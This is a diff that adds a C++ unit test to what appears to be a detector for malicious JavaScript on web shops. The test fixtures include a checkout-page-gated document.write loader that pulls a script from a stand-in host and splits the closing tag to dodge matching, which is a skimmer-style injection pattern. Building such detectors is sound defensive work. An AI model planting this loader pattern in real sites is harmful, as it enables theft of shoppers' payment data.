@@ -182,5 +182,24 @@ TEST(BehaviourJs, ACardFormPostingToAnotherHostIsExfil) {
   EXPECT_EQ(two[1].target_host, "x.example.top");
 }
 
+TEST(BehaviourJs, AScriptTagWrittenAsMarkupIsAScriptLoad) {
+  auto t =
+      Js("if(/checkout/.test(window.location)){document.write('<script src=\"https://"
+         "cdn-js.example.top/j.js\"></scr'+'ipt>');}");
+  ASSERT_EQ(t.size(), 1u);
+  EXPECT_EQ(t[0].id, "js.script_injection");
+  EXPECT_EQ(t[0].strength, 2);  // gated on checkout, from a host no provider owns
+  EXPECT_EQ(t[0].host, "cdn-js.example.top");
+  // The same from a payment provider, or without the gate: weak.
+  EXPECT_EQ(Strongest(Js("if(/checkout/.test(location)){document.write('<script src=\"https://"
+                         "js.stripe.com/v3/\"></scr'+'ipt>')}")),
+            1);
+  EXPECT_EQ(Strongest(Js("document.write('<script src=\"https://cdn-js.example.top/j.js\">"
+                         "</scr'+'ipt>');")),
+            1);
+  // Markup without a source host is no load.
+  EXPECT_TRUE(Js("el.innerHTML = '<script>var a = 1;</scr' + 'ipt>';").empty());
+}
+
 }  // namespace
 }  // namespace tq::webroot
